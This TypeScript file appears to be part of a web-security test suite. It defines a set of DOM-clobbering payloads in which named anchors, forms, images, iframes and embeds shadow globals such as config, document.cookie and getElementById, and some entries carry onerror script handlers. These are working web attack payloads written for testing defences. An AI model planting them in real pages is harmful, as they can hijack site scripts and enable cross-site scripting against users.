// Named elements that replace globals. The control's page has careless scripts that trust them.
import { family, markup, parsedMarkup } from "./payload.ts";

export const clobbering = family("clobbering", {
  anchor: markup(({ hit }) => `<a id="config" href="${hit()}"></a>`),
  "anchor-collection": markup(({ hit }) => `<a id="config"></a><a id="config" name="url" href="${hit()}"></a>`),
  "form-field": markup(({ hit }) => `<form id="config"><input name="url" value="${hit()}"></form>`),
  "form-output": markup(({ hit }) => `<form id="config"><output name="url">${hit()}</output></form>`),
  "form-of-form": markup(
    ({ hit }) => `<form id="defaults"></form><form id="defaults" name="api"><input name="url" value="${hit()}"></form>`,
  ),
  "named-image": markup(({ hit }) => `<img name="settings" src="data:," alt="${hit()}">`),
  "current-script": markup(({ hit }) => `<img name="currentScript" src="data:," alt="${hit()}">`),
  "document-cookie": markup(({ hit }) => `<img name="cookie" src="data:," alt="${hit()}">`),
  "named-frame": markup(({ hit }) => `<iframe name="config" srcdoc="<a id=url href='${hit()}'></a>"></iframe>`),
  "named-object": markup(({ hit }) => `<object name="settings" title="${hit()}"></object>`),
  "named-embed": markup(({ hit }) => `<embed name="settings" title="${hit()}">`),
  "get-element-by-id": markup(({ hit }) => `<img name="getElementById" src="data:," alt="${hit()}">`),
  "add-event-listener": markup(({ hit }) => `<form name="addEventListener"><input name="url" value="${hit()}"></form>`),
  "create-element": markup(({ hit }) => `<form name="createElement"><input name="url" value="${hit()}"></form>`),
  "root-of-the-component": markup(
    ({ hit }) => `<a id="root" href="${hit()}"></a><a id="plinth-errors" href="${hit()}"></a>`,
  ),
  "form-attributes": markup(
    ({ strike }) =>
      `<form onclick="0"><input name="attributes"><input name="nodeName"><img src="data:," onerror="${strike}"></form>`,
  ),
  // Not for jsx: React searches endlessly among the parents that the form names, which hangs the document's own frame.
  "form-children": parsedMarkup(
    ({ strike }) =>
      `<form><input name="childNodes"><input name="remove"><input name="parentNode"><img src="data:," onerror="${strike}"></form>`,
  ),
});
